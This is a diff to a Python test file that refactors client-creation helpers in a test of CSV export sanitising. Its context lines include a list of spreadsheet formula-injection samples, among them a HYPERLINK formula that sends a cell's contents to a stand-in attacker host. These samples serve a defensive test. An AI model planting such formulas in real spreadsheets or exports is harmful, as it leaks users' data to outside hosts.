@@ -34,7 +34,7 @@ from sessions.pseudonymised import EVENT_PAYLOAD, INCLUDE
 from sessions.pseudonyms import Pseudonyms
 from sessions.recorder import Machine
 from sessions.store import open_store
-from tests.sessions.factory import CLEAR, FakeClock, session
+from tests.sessions.factory import CLEAR, FakeClock, client, session
 
 NAME = "Jane Doe-Smith"
 PHONE, EMAIL, DOB = "+44 20 7946 0123", "jane.doe-smith@example.org", date(1980, 5, 17)
@@ -237,7 +237,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(sqlite_url):
     store = open_store(sqlite_url)
-    cid = add_client(store, NewClient(name="Ann Lee"))
+    cid = client(store, "Ann Lee")
     session(store, cid, FakeClock(), lot="PG-1", technician="Tom")
     # Another version (or raw SQL) stored formulas in every text column the CSV carries.
     with store.engine.begin() as c:
